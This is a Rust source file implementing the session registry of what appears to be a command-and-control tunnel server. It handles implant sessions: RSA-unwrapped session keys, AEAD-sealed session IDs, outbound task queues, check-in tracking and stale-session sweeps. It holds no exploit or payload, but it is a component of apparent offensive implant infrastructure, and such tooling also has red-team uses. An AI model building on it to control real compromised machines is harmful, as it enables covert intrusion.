//! Session Registry (component E).
//!
//! Owns live sessions exclusively: symmetric key, implant identity, an
//! outbound envelope queue, and the correlation-ID waiter map used to
//! deliver a completed block to whichever caller is waiting on it. The
//! registry lock guards the session map; each session's own
//! `pending_responses` lock is acquired only after the registry lock has
//! been released, to avoid lock-order inversion (spec §5).

use crate::codec::{decode_b64, encode_b64};
use crate::crypto::{aead_key_from, aead_open, aead_seal, CertMaterial, SessionKey};
use crate::envelope::Envelope;
use crate::error::{Result, TunnelError};
use std::collections::HashMap;
use std::sync::Arc;
use std::time::{Duration, Instant};
use tokio::sync::{mpsc, oneshot, Mutex, RwLock};

const SESSION_ID_ALPHABET: &[u8] = b"abcdefghijklmnopqrstuvwxyz0123456789-_";
const SESSION_ID_BODY_LEN: usize = 8;

fn generate_session_id() -> String {
    use rand::Rng;
    let mut rng = rand::thread_rng();
    let body: String = (0..SESSION_ID_BODY_LEN)
        .map(|_| SESSION_ID_ALPHABET[rng.gen_range(0..SESSION_ID_ALPHABET.len())] as char)
        .collect();
    format!("_{body}")
}

/// A live, authenticated session.
pub struct Session {
    pub id: String,
    pub implant_name: String,
    pub session_key: SessionKey,
    last_checkin: Mutex<Instant>,
    outbox_tx: mpsc::UnboundedSender<Envelope>,
    outbox_rx: Mutex<mpsc::UnboundedReceiver<Envelope>>,
    pending_responses: Mutex<HashMap<String, oneshot::Sender<Envelope>>>,
}

impl Session {
    fn new(id: String, implant_name: String, session_key: SessionKey) -> Self {
        let (outbox_tx, outbox_rx) = mpsc::unbounded_channel();
        Self {
            id,
            implant_name,
            session_key,
            last_checkin: Mutex::new(Instant::now()),
            outbox_tx,
            outbox_rx: Mutex::new(outbox_rx),
            pending_responses: Mutex::new(HashMap::new()),
        }
    }

    pub async fn last_checkin(&self) -> Instant {
        *self.last_checkin.lock().await
    }

    async fn touch(&self) {
        *self.last_checkin.lock().await = Instant::now();
    }

    /// Queue an envelope for delivery to the implant on its next poll.
    pub fn enqueue_outbound(&self, envelope: Envelope) {
        // An unbounded channel never fails to send while the receiver (held
        // by this same `Session`) is alive.
        let _ = self.outbox_tx.send(envelope);
    }

    /// Drain one envelope from the outbound queue, if any is waiting.
    pub async fn drain_outbound(&self) -> Option<Envelope> {
        self.outbox_rx.lock().await.try_recv().ok()
    }

    /// Register a one-shot waiter for a correlation ID, returning the
    /// receiving end.
    pub async fn register_waiter(&self, correlation_id: &str) -> oneshot::Receiver<Envelope> {
        let (tx, rx) = oneshot::channel();
        self.pending_responses
            .lock()
            .await
            .insert(correlation_id.to_string(), tx);
        rx
    }

    /// Deliver a decoded envelope to its waiter, if one is registered.
    /// Deliver-once: the entry is removed whether or not the send
    /// succeeds (a dropped receiver just means nobody is listening
    /// anymore).
    pub async fn deliver(&self, envelope: Envelope) {
        let mut pending = self.pending_responses.lock().await;
        if let Some(tx) = pending.remove(&envelope.correlation_id) {
            let _ = tx.send(envelope);
        }
    }
}

/// Live sessions, keyed by session ID. The registry is the sole owner of
/// session state (spec §3, Ownership).
pub struct SessionRegistry {
    sessions: RwLock<HashMap<String, Arc<Session>>>,
}

impl SessionRegistry {
    pub fn new() -> Self {
        Self {
            sessions: RwLock::new(HashMap::new()),
        }
    }

    /// RSA-decrypt the bootstrap key, adopt it as the session AEAD key,
    /// allocate and register a new session, then seal the new session ID
    /// under that key and return it base64-raw-encoded. Any failure along
    /// the way leaves no state behind.
    pub async fn open(
        &self,
        cert: &CertMaterial,
        encrypted_session_key: &[u8],
        implant_name: &str,
    ) -> Result<String> {
        let key_bytes = cert.rsa_decrypt(encrypted_session_key)?;
        let session_key = aead_key_from(&key_bytes)?;

        let mut sessions = self.sessions.write().await;
        let id = loop {
            let candidate = generate_session_id();
            if !sessions.contains_key(&candidate) {
                break candidate;
            }
            // Collision: retry (spec invariant 5).
        };

        let session = Arc::new(Session::new(id.clone(), implant_name.to_string(), session_key));
        let sealed_id = aead_seal(&session.session_key, id.as_bytes());
        sessions.insert(id, session);

        Ok(encode_b64(&sealed_id))
    }

    pub async fn lookup(&self, session_id: &str) -> Option<Arc<Session>> {
        self.sessions.read().await.get(session_id).cloned()
    }

    pub async fn touch(&self, session_id: &str) -> Result<()> {
        let session = self.lookup(session_id).await.ok_or(TunnelError::UnknownSession)?;
        session.touch().await;
        Ok(())
    }

    pub async fn close(&self, session_id: &str) {
        self.sessions.write().await.remove(session_id);
    }

    /// Remove sessions idle longer than `timeout`.
    pub async fn sweep(&self, timeout: Duration) {
        let now = Instant::now();
        let mut stale = Vec::new();
        for (id, session) in self.sessions.read().await.iter() {
            if now.duration_since(session.last_checkin().await) > timeout {
                stale.push(id.clone());
            }
        }
        if !stale.is_empty() {
            let mut sessions = self.sessions.write().await;
            for id in stale {
                sessions.remove(&id);
            }
        }
    }
}

impl Default for SessionRegistry {
    fn default() -> Self {
        Self::new()
    }
}

/// Verify a base64-raw-encoded sealed session ID decrypts (under `key`) to
/// the expected plaintext ID — used by callers that already hold a
/// candidate key and want to confirm a handshake round-tripped.
pub fn open_sealed_id(sealed: &str, key: &SessionKey) -> Result<String> {
    let raw = decode_b64(sealed)?;
    let plaintext = aead_open(key, &raw)?;
    String::from_utf8(plaintext).map_err(|_| TunnelError::CryptoError)
}
